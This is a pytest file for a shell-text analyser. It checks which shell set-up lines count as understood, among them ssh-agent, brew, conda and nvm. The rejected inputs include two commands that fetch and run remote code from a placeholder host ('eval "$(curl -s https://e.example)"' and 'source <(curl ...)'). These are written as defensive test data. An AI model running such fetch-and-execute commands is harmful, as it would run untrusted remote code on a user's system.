"""Set-up text that programs print for the shell, files that are sourced, and text that stays unknown."""

from __future__ import annotations

import pytest

from tests.shell.reading import view


@pytest.mark.parametrize(
    "text",
    [
        'eval "$(ssh-agent -s)"',
        "eval `ssh-agent`",
        'eval "$(SHELL=/bin/zsh rbenv init - zsh)"',
        'eval "$(/usr/local/bin/brew shellenv)"',
        'eval "$(direnv export bash)"',
        'eval "$(conda shell.posix hook 2>/dev/null || true)"',
        "eval $(minikube --profile dev docker-env)",
        'eval "$(gh completion -s bash)"',
        'eval "$(dircolors -b)"',
        'eval "$(thefuck --alias)"',
        "source <(helm completion bash)",
        ". <(kubectl completion zsh)",
        '. "$HOME/.cargo/env"',
        'source "$NVM_DIR/nvm.sh"',
        "source $VENV/bin/activate",
        'source "$(conda info --base)/etc/profile.d/conda.sh"',
        "source $(brew --prefix asdf)/asdf.sh",
        '[ -s "$NVM_DIR/nvm.sh" ] && \\. "$NVM_DIR/nvm.sh"',
    ],
)
def test_set_up_text_is_understood(text: str) -> None:
    shell = view(text)
    assert shell.understood, shell.problems
    assert not [item for item in shell.flows if item.sink == "exec"]


@pytest.mark.parametrize(
    "text",
    [
        '. "$f"',
        "source $DIR/$NAME",
        'eval "$(cat setup)"',
        'eval "$(curl -s https://e.example)"',
        'eval "$(ssh-agent)$X"',
        'eval "$(cat x; ssh-agent)"',
        'eval "$(ssh-agent | sed s/a/b/)"',
        'eval "$(direnv status)"',
        'eval "$(python3 completion bash)"',
        'eval "$(cat completion bash)"',
        'eval "$($T init -)"',
        "source <(curl -s https://e.example/completion)",
        "source $(cat f)/x.sh",
    ],
)
def test_other_text_is_not(text: str) -> None:
    assert not view(text).understood


def test_sourced_files_are_run() -> None:
    paths = view('source "$NVM_DIR/nvm.sh"').paths
    assert [(item.op, item.raw, item.dynamic) for item in paths] == [("exec", "$NVM_DIR/nvm.sh", True)]


def test_variables_are_unknown_after_set_up() -> None:
    assert not view('X=ls; eval "$(direnv export bash)"; $X').understood
